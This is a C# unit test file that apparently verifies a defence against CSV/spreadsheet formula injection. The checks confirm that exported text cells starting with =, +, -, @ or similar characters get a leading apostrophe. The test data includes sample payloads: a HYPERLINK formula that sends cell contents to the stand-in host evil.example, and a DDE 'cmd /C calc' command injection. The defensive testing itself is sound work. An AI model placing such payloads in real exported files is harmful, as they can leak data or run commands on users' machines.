using ClosedXML.Excel;
using IntegrationHub.Reporting.Exports;

namespace IntegrationHub.Core.Tests.Reporting;

/// <summary>Issue 12 item 2: no exported text cell can be read as a formula by a spreadsheet (OWASP CSV injection).</summary>
public sealed class SpreadsheetTextTests
{
    public static TheoryData<string> Formulas =>
    [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "+1+1", "-2+3", "@SUM(A1:A9)", " =1+1", "  @cmd", "\t=1+1", "\r=1+1", "\n-1",
        "\tplain", "\rplain", "＝1+1", "　＋1", "=cmd|' /C calc'!A0",
    ];

    [Theory]
    [MemberData(nameof(Formulas))]
    public void Neutralize_FormulaLikeText_GetsALeadingApostrophe(string cell) => Assert.Equal("'" + cell, SpreadsheetText.Neutralize(cell));

    [Theory]
    [InlineData("")]
    [InlineData("深南市监罚〔2024〕1号")]
    [InlineData("a=b")]
    [InlineData("1-2")]
    [InlineData("'=already")]
    public void Neutralize_OtherText_IsUnchanged(string cell) => Assert.Equal(cell, SpreadsheetText.Neutralize(cell));

    [Fact]
    public void CsvAndXlsx_NeutralizeEveryTextCell_ButKeepTheHubsNumbers()
    {
        var table = new ExportTable("t", ["name", "=header", "count"],
            [["=1+1", "@x", "-5"], [" -1", "ok", "12"], ["\t=2", null, "=3"]])
        {
            NumericColumns = new HashSet<string> { "count" },
        };

        var csv = CsvExport.Text(table).Split("\r\n");
        Assert.Equal("name,'=header,count", csv[0]);
        Assert.Equal("'=1+1,'@x,-5", csv[1]);
        Assert.Equal("' -1,ok,12", csv[2]);
        Assert.Equal("'\t=2,,'=3", csv[3]);

        using var workbook = new XLWorkbook(new MemoryStream(XlsxExport.Bytes(table)));
        var sheet = workbook.Worksheet(1);
        Assert.Equal("'=header", sheet.Cell(1, 2).GetString());
        Assert.Equal("'=1+1", sheet.Cell(2, 1).GetString());
        Assert.Equal(-5m, sheet.Cell(2, 3).GetValue<decimal>());
        Assert.Equal("'=3", sheet.Cell(4, 3).GetString());
        Assert.All(sheet.CellsUsed(), cell => Assert.False(cell.HasFormula, $"{cell.Address} holds a formula"));
    }
}
